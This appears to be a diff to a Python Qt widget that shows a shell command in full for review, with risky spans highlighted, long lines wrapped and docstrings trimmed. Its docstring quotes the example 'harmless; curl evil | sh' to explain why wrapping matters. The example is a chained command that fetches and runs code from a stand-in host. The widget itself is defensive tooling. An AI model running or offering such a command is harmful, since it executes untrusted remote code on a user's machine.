@@ -1,17 +1,10 @@
-"""The read-only, monospace view of one whole command.
+"""The read-only, monospace view of one whole command (already revealed), never cut.
 
-Why QPlainTextEdit and not QLabel: a command is shown *whole* — never elided, never cut — and may
-be a megabyte long. QPlainTextEdit lays text out lazily, scrolls, never interprets markup, and
-lets a person select and copy. Measured here (offscreen, 1 MB single line): word-boundary
-wrapping is quadratic on one long token (65 s for 1 MB of ``x``), while ``WrapAnywhere`` is
-linear (0.3 s). So ordinary commands wrap at word boundaries and a command with a very long
-token (a base64 blob, say) wraps anywhere. Wrapping at all matters: with horizontal scrolling
-the tail of ``harmless; curl evil | sh`` could sit off-screen.
-
-The text given to :meth:`CommandView.show_command` must already be revealed (hidden characters
-escaped); this widget only renders it. Risky parts (from the risk lens, as spans of the revealed
-text) are drawn as extra selections: a coloured background over the plain text, so the
-document itself never holds anything but the command's characters.
+QPlainTextEdit, not QLabel: a command may be a megabyte long, and it lays out lazily, scrolls,
+never interprets markup and lets a person copy. It always wraps (scrolled sideways, the tail of
+``harmless; curl evil | sh`` could sit off screen), anywhere when a token is very long: wrapping
+at word boundaries is quadratic on one long token (65 s for 1 MB), anywhere linear (0.3 s).
+Risky spans are drawn as extra selections, so the document holds only the command's characters.
 """
 
 from __future__ import annotations
@@ -68,12 +61,10 @@ class CommandView(QPlainTextEdit):
         self._pending = False  # a long command waits for the first show (see show_command)
 
     def show_command(self, text: str, marks: tuple[Mark, ...] = ()) -> None:
-        """Display ``text`` (already revealed) with ``marks`` highlighted; cheap if unchanged.
+        """Display ``text`` with ``marks`` highlighted; cheap if unchanged.
 
-        A long command is laid out once, at the view's final width: every width change re-wraps
-        the whole text (0.2 to 0.4 s per megabyte), and a hidden view changes width two or three
-        times while its window is first laid out. So a long command set while hidden is applied
-        just after the first show, when the pending layout passes are done.
+        A long command set while hidden is laid out just after the first show, at its final
+        width: a hidden view changes width a few times, and each re-wraps (0.2-0.4 s per MB).
         """
         if text == self._shown:
             if marks != self._marks:
@@ -89,7 +80,6 @@ class CommandView(QPlainTextEdit):
             self.setPlaceholderText(f"Loading a {len(text):,}-character command…")
 
     def showEvent(self, event: QShowEvent) -> None:
-        """Apply a pending long command once this show's layout passes have run."""
         super().showEvent(event)
         if self._pending:
             QTimer.singleShot(0, self, self._apply)
@@ -116,14 +106,6 @@ class CommandView(QPlainTextEdit):
         self._fit_height(len(text))
         self._apply_marks()
 
-    def marks(self) -> tuple[Mark, ...]:
-        """The highlighted spans, as given (tests read them back)."""
-        return self._marks
-
-    def marked_texts(self) -> list[str]:
-        """The text under each drawn highlight, read back from the document."""
-        return [selection.cursor.selectedText() for selection in self.extraSelections()]
-
     def _apply_marks(self) -> None:
         text = self._shown or ""
         if self._pending or self.toPlainText() != text:
@@ -149,12 +131,7 @@ class CommandView(QPlainTextEdit):
             selections.append(selection)
         self.setExtraSelections(selections)
 
-    def shown_text(self) -> str:
-        """The text as displayed (what tests and screen readers read back)."""
-        return self.toPlainText()
-
     def scroll_page(self, pages: int) -> None:
-        """Scroll by whole pages (PageUp/PageDown while the row is selected)."""
         bar = self.verticalScrollBar()
         bar.setValue(bar.value() + pages * bar.pageStep())
 
@@ -164,7 +141,6 @@ class CommandView(QPlainTextEdit):
         event.ignore()  # the list's viewport sees it (input_router) and selects this card
 
     def resizeEvent(self, event: QResizeEvent) -> None:
-        """Re-fit the height: a new width re-wraps the lines."""
         super().resizeEvent(event)
         if event.oldSize().width() != event.size().width():
             self._fit_height(len(self._shown or ""))
